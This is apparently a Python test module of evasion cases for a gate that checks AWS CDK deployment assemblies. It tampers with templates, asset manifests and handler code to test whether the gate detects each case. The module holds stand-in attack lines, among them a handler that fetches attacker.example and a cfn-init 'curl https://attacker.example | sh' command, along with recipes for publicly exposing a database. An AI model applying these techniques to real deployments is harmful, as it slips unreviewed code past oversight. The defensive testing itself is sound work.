"""Disguises that hide a violation in what deploys rather than in the template the gate reads, or in code.

Three classes, each gated with the rest of the corpus by tests/harness/test_evasions.py:

* ``deployed-bytes``: the template that ``cdk deploy`` publishes is not ``templateFile`` (or a
  nested stack's ``TemplateURL`` names another asset than its ``aws:asset:path``);
* ``assets``: an asset the template references is missing, outside the assembly, or published
  under a name that is not the hash of its content;
* ``code-review``: code that runs at deploy or run time that nobody reviewed (replaced handler
  code, inline code, a layer, an image, a document, a state machine, cfn-init), code the gate
  cannot read (another bucket, a location chosen at deploy time), and a waiver that still names
  the old code.

Each case edits the assembly the way an attacker with write access to ``cdk.out`` (or to the app)
would, fixing up hashes and manifests so nothing but the check under test can notice
(tests.harness.assemblies).
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

from tests.harness.assemblies import (
    BUCKET,
    add_code_asset,
    code_asset_id,
    file_entry,
    read,
    replace_code_asset,
    seal_assembly,
    sha256,
    template_url,
    the_asset_manifest,
    write,
    write_code,
)

if TYPE_CHECKING:
    from tests.harness.evasions import Evasion

Template = dict[str, Any]
DEPLOYED, ASSET, CODE = "gate:deployed-template", "gate:asset", "gate:code-review"
NE, F = "not-evaluated", "failed"
TEMPLATE = "StagingDatabase.template.json"
EVIL_JS = 'exports.handler = async () => { await fetch("https://attacker.example/x"); return {}; };\n'


def _handler_id(t: Template) -> str:
    return str(next(lid for lid, r in t["Resources"].items() if r["Type"] == "AWS::Lambda::Function"))


def _db(t: Template) -> dict[str, Any]:
    return next(r["Properties"] for r in t["Resources"].values() if r["Type"] == "AWS::RDS::DBInstance")


def _public_copy(directory: Path, name: str) -> str:
    """A copy of the stack template with the database made public; its SHA-256."""
    body = read(directory / TEMPLATE)
    _db(body)["PubliclyAccessible"] = True
    write(directory / name, body)
    return sha256(directory / name)


def _stack_properties(directory: Path) -> tuple[dict[str, Any], dict[str, Any]]:
    manifest = read(directory / "manifest.json")
    return manifest, next(
        a["properties"] for a in manifest["artifacts"].values() if a["type"] == "aws:cloudformation:stack"
    )


# ------------------------------------------------------------------------------------------ deployed-bytes


def _deploy_other_file(directory: Path) -> None:
    """A second, consistent asset entry for a violating copy; the manifest's URL names it."""
    digest = _public_copy(directory, "StagingDatabase.deployed.json")
    asset_manifest = the_asset_manifest(directory)
    data = read(asset_manifest)
    data["files"][digest] = file_entry("StagingDatabase.deployed.json", digest, "template")
    write(asset_manifest, data)
    manifest, properties = _stack_properties(directory)
    properties["stackTemplateAssetObjectUrl"] = f"s3://{BUCKET}/{digest}.json"
    write(directory / "manifest.json", manifest)


def _swap_template_source(directory: Path) -> None:
    """The template's own asset entry now publishes another file, under the clean template's object key."""
    _public_copy(directory, "other.json")
    asset_manifest = the_asset_manifest(directory)
    data = read(asset_manifest)
    entry = next(e for e in data["files"].values() if e["source"]["path"] == TEMPLATE)
    entry["source"]["path"] = "other.json"
    write(asset_manifest, data)


def _edit_after_synthesis(directory: Path) -> None:
    """The template edited in cdk.out, the manifest left as synthesized: the object key names other bytes."""
    body = read(directory / TEMPLATE)
    _db(body)["PubliclyAccessible"] = True
    write(directory / TEMPLATE, body)


def _url_in_another_bucket(directory: Path) -> None:
    manifest, properties = _stack_properties(directory)
    properties["stackTemplateAssetObjectUrl"] = properties["stackTemplateAssetObjectUrl"].replace(
        BUCKET, "attacker-templates"
    )
    write(directory / "manifest.json", manifest)


def _two_sources_one_object(directory: Path) -> None:
    """Two entries publish to the template's object: which file deploys depends on upload order."""
    _public_copy(directory, "twin.json")
    asset_manifest = the_asset_manifest(directory)
    data = read(asset_manifest)
    digest = next(k for k, e in data["files"].items() if e["source"]["path"] == TEMPLATE)
    twin = file_entry("twin.json", digest, "twin")
    data["files"]["twin"] = twin
    write(asset_manifest, data)


def _nested_stack(t: Template) -> None:
    group = next(lid for lid, r in t["Resources"].items() if r["Type"] == "AWS::EC2::SecurityGroup"
                 and "5432" in json.dumps(r))  # fmt: skip
    t["Resources"]["InnerStack"] = {
        "Type": "AWS::CloudFormation::Stack",
        "Metadata": {"aws:asset:path": "Inner.nested.template.json"},
        "Properties": {"TemplateURL": "sealed", "Parameters": {"DbGroup": {"Fn::GetAtt": [group, "GroupId"]}}},
    }


def _ingress(cidr: str) -> dict[str, Any]:
    return {"Type": "AWS::EC2::SecurityGroupIngress", "Properties": {
        "GroupId": {"Ref": "DbGroup"}, "IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432, "CidrIp": cidr,
        "Description": "application subnet"}}  # fmt: skip


def _clean_nested(t: Template) -> dict[str, Any]:
    return {"Inner.nested.template.json": {"Parameters": {"DbGroup": {"Type": "String"}},
                                           "Resources": {"App": _ingress("10.1.0.0/24")}}}  # fmt: skip


def _nested_url_names_other_asset(directory: Path) -> None:
    """aws:asset:path keeps the clean nested template; TemplateURL names a consistent asset that opens the DB."""
    body = {"Parameters": {"DbGroup": {"Type": "String"}}, "Resources": {"App": _ingress("0.0.0.0/0")}}
    write(directory / "Evil.nested.template.json", body)
    digest = sha256(directory / "Evil.nested.template.json")
    asset_manifest = the_asset_manifest(directory)
    data = read(asset_manifest)
    data["files"][digest] = file_entry("Evil.nested.template.json", digest, "InnerStack Nested Stack Template")
    write(asset_manifest, data)
    parent = read(directory / TEMPLATE)
    parent["Resources"]["InnerStack"]["Properties"]["TemplateURL"] = template_url(digest)
    write(directory / TEMPLATE, parent)
    seal_assembly(directory, nested=False)


# ------------------------------------------------------------------------------------------ assets


def _delete_code_asset(directory: Path) -> None:
    shutil.rmtree(directory / f"asset.{code_asset_id(directory)}")


def _code_asset_outside(directory: Path) -> None:
    """The handler's asset entry names a directory beside the assembly (e.g. the attacker's checkout)."""
    asset_id = code_asset_id(directory)
    outside = directory.parent / f"{directory.name}-outside-code"
    shutil.copytree(directory / f"asset.{asset_id}", outside, dirs_exist_ok=True)
    asset_manifest = the_asset_manifest(directory)
    data = read(asset_manifest)
    data["files"][asset_id]["source"]["path"] = f"../{outside.name}"
    write(asset_manifest, data)


def _code_key_not_published(t: Template) -> None:
    t["Resources"][_handler_id(t)]["Properties"]["Code"]["S3Key"] = "ab" * 32 + ".zip"


def _delete_asset_manifest(directory: Path) -> None:
    the_asset_manifest(directory).unlink()


def _symlink_in_code(directory: Path) -> None:
    """The handler's directory gains a link to a file outside the assembly (cdk-assets would zip its target)."""
    (directory / f"asset.{code_asset_id(directory)}" / "config.json").symlink_to("/etc/hostname")


def _code_edited_in_place(directory: Path) -> None:
    """index.js edited, the directory and its object key left as synthesized: the key names other content."""
    code = directory / f"asset.{code_asset_id(directory)}" / "index.js"
    code.write_text(EVIL_JS, encoding="utf-8")


# ------------------------------------------------------------------------------------------ code-review


def _replace_handler_code(directory: Path) -> None:
    entrypoint = next(directory.glob("asset.*/__entrypoint__.js")).read_text(encoding="utf-8")
    replace_code_asset(directory, {"index.js": EVIL_JS, "__entrypoint__.js": entrypoint})


def _inline_handler(t: Template) -> None:
    handler = t["Resources"][_handler_id(t)]
    handler["Properties"]["Code"] = {"ZipFile": EVIL_JS}
    handler["Properties"]["Handler"] = "index.handler"
    handler["Metadata"].pop("aws:asset:path", None)
    handler["Metadata"].pop("aws:asset:property", None)


def _code_in_foreign_bucket(t: Template) -> None:
    t["Resources"][_handler_id(t)]["Properties"]["Code"]["S3Bucket"] = "attacker-artifacts"


def _code_behind_condition(t: Template) -> None:
    """Fn::If on a condition the template decides: the inline branch is the one that deploys."""
    t.setdefault("Conditions", {})["Always"] = {"Fn::Equals": ["a", "a"]}
    code = t["Resources"][_handler_id(t)]["Properties"]["Code"]
    t["Resources"][_handler_id(t)]["Properties"]["Code"] = {"Fn::If": ["Always", {"ZipFile": EVIL_JS}, code]}


LAYER_FILES = {"nodejs/node_modules/@aws-sdk/client-ec2/index.js": EVIL_JS}
_LAYER_HASH: dict[str, str] = {}


def _layer_hash() -> str:
    """The layer's fingerprint, computed once in a scratch directory (the template must name it)."""
    if "hash" not in _LAYER_HASH:
        import tempfile  # noqa: PLC0415

        with tempfile.TemporaryDirectory() as scratch:
            _LAYER_HASH["hash"] = write_code(Path(scratch), LAYER_FILES)
    return _LAYER_HASH["hash"]


def _add_layer(t: Template) -> None:
    """A layer that shadows the SDK the reviewed handler imports: the handler's own code is untouched."""
    t["Resources"]["SdkLayer"] = {"Type": "AWS::Lambda::LayerVersion", "Properties": {
        "Content": {"S3Bucket": {"Fn::Sub": BUCKET}, "S3Key": f"{_layer_hash()}.zip"},
        "CompatibleRuntimes": ["nodejs24.x"]}}  # fmt: skip
    t["Resources"][_handler_id(t)]["Properties"]["Layers"] = [{"Ref": "SdkLayer"}]


def _publish_layer(directory: Path) -> None:
    assert add_code_asset(directory, LAYER_FILES, display="SdkLayer/Code") == _layer_hash()


def _foreign_layer(t: Template) -> None:
    """A published layer of another account: the handler's own code stays the reviewed asset."""
    t["Resources"][_handler_id(t)]["Properties"]["Layers"] = ["arn:aws:lambda:us-east-1:123456789012:layer:sdk:3"]


def _ssm_document(t: Template) -> None:
    t["Resources"]["Cleanup"] = {"Type": "AWS::SSM::Document", "Properties": {
        "DocumentType": "Automation", "Content": {"schemaVersion": "0.3", "mainSteps": [{
            "name": "run", "action": "aws:executeScript", "inputs": {
                "Runtime": "python3.11", "Handler": "h", "Script": "def h(e, c):\n    import boto3  # anything\n"}}]},
        "Tags": [{"Key": "Environment", "Value": "staging"}, {"Key": "CostCenter", "Value": "engineering"}]}}  # fmt: skip


def _cfn_init_on_a_group(t: Template) -> None:
    """cfn-init metadata rides on any resource (cfn-init -r <id> reads it): here the database's group."""
    group = next(r for r in t["Resources"].values() if r["Type"] == "AWS::EC2::SecurityGroup")
    group.setdefault("Metadata", {})["AWS::CloudFormation::Init"] = {
        "config": {"commands": {"x": {"command": "curl https://attacker.example | sh"}}}}  # fmt: skip


def _image_from_a_public_registry(t: Template) -> None:
    handler = t["Resources"][_handler_id(t)]["Properties"]
    handler["Code"] = {"ImageUri": "public.ecr.aws/attacker/handler:latest"}
    handler["PackageType"] = "Image"
    for key in ("Handler", "Runtime"):
        handler.pop(key, None)


def _case(name: str, category: str, disguise: str, expected: set[tuple[str, str]], apply: Callable[[Template], None] | None = None,
          **kwargs: Any) -> Evasion:  # fmt: skip
    from tests.harness.evasions import Evasion  # noqa: PLC0415  (evasions.py registers this module at its end)

    return Evasion(name=name, category=category, disguise=disguise, expected=frozenset(expected),
                   apply=apply or (lambda t: None), **kwargs)  # fmt: skip


def __getattr__(name: str) -> Any:
    """``CASES``, built on first use: evasions.py imports this module at its end, whichever is imported first."""
    if name == "CASES":
        return _cases()
    raise AttributeError(name)


def _cases() -> list[Evasion]:
    return [
        _case(
            "deploy-another-file",
            "deployed-bytes",
            "the manifest's template URL names a consistent asset of a violating copy; templateFile stays clean",
            {(DEPLOYED, NE)},
            tamper=_deploy_other_file,
        ),
        _case(
            "deploy-swapped-source",
            "deployed-bytes",
            "the template's asset entry publishes another file under the clean template's key",
            {(DEPLOYED, NE)},
            tamper=_swap_template_source,
        ),
        _case(
            "deploy-edited-after-synth",
            "deployed-bytes",
            "templateFile edited in cdk.out, manifest untouched: its object key names the old bytes",
            {(DEPLOYED, NE)},
            tamper=_edit_after_synthesis,
        ),
        _case(
            "deploy-url-another-bucket",
            "deployed-bytes",
            "the template URL names a bucket the assembly does not publish to",
            {(DEPLOYED, NE)},
            tamper=_url_in_another_bucket,
        ),
        _case(
            "deploy-two-sources",
            "deployed-bytes",
            "two asset entries publish to the template's object",
            {(DEPLOYED, NE)},
            tamper=_two_sources_one_object,
        ),
        _case(
            "nested-url-other-asset",
            "deployed-bytes",
            "a nested stack's TemplateURL names an asset that opens the database; aws:asset:path names a clean one",
            {(DEPLOYED, NE)},
            _nested_stack,
            extra_files=_clean_nested,
            tamper=_nested_url_names_other_asset,
        ),
        _case(
            "code-asset-missing",
            "assets",
            "the handler's code directory is not in the assembly",
            {(ASSET, NE)},
            tamper=_delete_code_asset,
        ),
        _case(
            "code-asset-outside",
            "assets",
            "the handler's asset entry names a directory outside the assembly",
            {(ASSET, NE)},
            tamper=_code_asset_outside,
        ),
        _case(
            "code-key-unpublished",
            "assets",
            "the handler's S3Key names an object no asset manifest publishes",
            {(ASSET, NE)},
            _code_key_not_published,
        ),
        _case(
            "asset-manifest-missing",
            "assets",
            "the stack's asset manifest is deleted",
            {(ASSET, NE), (DEPLOYED, NE)},
            tamper=_delete_asset_manifest,
        ),
        _case(
            "code-asset-symlink",
            "assets",
            "the handler's directory links to a file outside the assembly",
            {(ASSET, NE)},
            tamper=_symlink_in_code,
        ),
        _case(
            "code-edited-in-place",
            "assets",
            "index.js edited without renaming its asset: the key names other content",
            {(ASSET, NE)},
            tamper=_code_edited_in_place,
        ),
        _case(
            "handler-code-replaced",
            "code-review",
            "the custom resource's handler code replaced, asset renamed, manifest and template fixed up",
            {(CODE, NE)},
            tamper=_replace_handler_code,
        ),
        _case(
            "handler-inline", "code-review", "the handler's code inline (Code.ZipFile)", {(CODE, NE)}, _inline_handler
        ),
        _case(
            "handler-foreign-bucket",
            "code-review",
            "the handler's code in another bucket, same key",
            {(CODE, NE)},
            _code_in_foreign_bucket,
        ),
        _case(
            "handler-code-behind-fn-if",
            "code-review",
            "Fn::If on a decided condition picks inline code",
            {(CODE, NE)},
            _code_behind_condition,
        ),
        _case(
            "layer-unreviewed",
            "code-review",
            "a consistent layer asset that shadows the SDK the reviewed handler imports",
            {(CODE, NE)},
            _add_layer,
            tamper=_publish_layer,
        ),
        _case(
            "layer-of-another-account",
            "code-review",
            "the reviewed handler runs with a layer ARN of another account",
            {(CODE, NE)},
            _foreign_layer,
        ),
        _case(
            "ssm-automation-document",
            "code-review",
            "an automation document running an inline script",
            {(CODE, NE)},
            _ssm_document,
        ),
        _case(
            "cfn-init-on-a-group",
            "code-review",
            "cfn-init commands in a security group's metadata",
            {(CODE, NE)},
            _cfn_init_on_a_group,
        ),
        _case(
            "handler-public-image",
            "code-review",
            "the handler as an image from a public registry, by tag",
            {(CODE, NE)},
            _image_from_a_public_registry,
        ),
        _case(
            "waiver-on-replaced-code",
            "code-review",
            "the handler's code replaced: WVR-006..008 still name the function, not its new code",
            {("CKV_AWS_115", F), ("CKV_AWS_116", F), ("CKV_AWS_117", F)},
            tamper=_replace_handler_code,
        ),
    ]
